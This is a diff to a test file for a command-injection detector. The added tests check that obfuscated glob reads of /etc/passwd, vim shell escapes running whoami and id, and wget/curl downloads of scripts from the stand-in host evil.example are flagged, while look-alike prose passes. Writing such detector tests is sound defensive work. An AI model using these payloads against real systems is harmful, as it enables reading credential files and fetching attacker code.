@@ -1,6 +1,6 @@
 import { test } from 'node:test'
 import assert from 'node:assert/strict'
-import { analyzeCmdi, shellWord } from '../../src/detection/cmdi/analyzer.js'
+import { analyzeCmdi, analyzeCmdiAgent, shellWord } from '../../src/detection/cmdi/analyzer.js'
 import { globSegment, globTarget } from '../../src/detection/cmdi/glob.js'
 import { batchFor, batchIf } from '../../src/detection/cmdi/windows.js'
 import { mailCommand } from '../../src/detection/cmdi/mail.js'
@@ -201,4 +201,34 @@ test('URL paths: endpoints named like commands pass (/id, /whoami); separators i
   assert.ok(path('/run/$(whoami)').length > 0)
   // The same words as a whole query value are still command lines.
   assert.equal(analyzeCmdi('whoami')?.rule, 'cmdi-command-line')
+})
+
+test('issue 3: globs padded with slashes, editors running shell commands, a download as the whole value', () => {
+  const rule = (value: string) => {
+    const f = surest(analyzeCmdi, value, false)
+    return f !== null && f.confidence >= 0.8 ? f.rule : null
+  }
+  // brackets padded with '/' still expand to /etc/passwd
+  assert.equal(rule('cat /[e//]tc/[p//]asswd'), 'cmdi-glob')
+  assert.ok(globTarget('/[e/////]tc/[p//]asswd'))
+  assert.ok(!globTarget('/[a-z//]/x'), 'a class alone names nothing')
+  // vi/vim/ex with a `+cmd` or `-c cmd` that is a shell escape
+  assert.equal(rule(';vim dddd +silent\\ \\!whoami +wq'), 'cmdi-separator')
+  assert.equal(rule('vi -c ":!id" x'), 'cmdi-command-line')
+  // wget/curl of a URL, alone or with options and an output file
+  assert.equal(rule('wget http://evil.example/x.sh'), 'cmdi-command-line')
+  assert.equal(rule('curl -o /tmp/x https://evil.example/x.sh'), 'cmdi-command-line')
+  assert.equal(rule('curl -fsSL "https://evil.example/i.sh" -o i.sh'), 'cmdi-command-line')
+  // look-alikes: the words in prose, an editor without a shell escape, a URL in a sentence
+  for (const ok of ['vim +10 notes.txt', 'use vim -c "set nu" to number lines', 'I love curl', 'curl and wget are tools',
+    'curl https://example.com is how I test it', 'wget is on the server', 'see [a-z]/[0-9] ranges', 'wow!'])
+    assert.equal(rule(ok), null, ok)
+})
+
+test('issue 3: a User-Agent that is a command line, not product tokens', () => {
+  for (const ua of ['env --version', 'set -o history', 'ansible all -m ping', "'cscli' alerts list", 'chef-client -t 1.1.1.1'])
+    assert.equal(analyzeCmdiAgent(ua)?.rule, 'cmdi-command-line', ua)
+  for (const ua of ['Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0', 'curl/8.4.0', 'MyApp 1.2.3', 'Chef report bot', 'Python urllib', 'Java HTTP Client',
+    'Slackbot 1.0 (+https://api.slack.com/robots)', 'Mediapartners-Google', 'Screaming Frog SEO Spider', 'env', 'wget'])
+    assert.equal(analyzeCmdiAgent(ua), null, ua)
 })
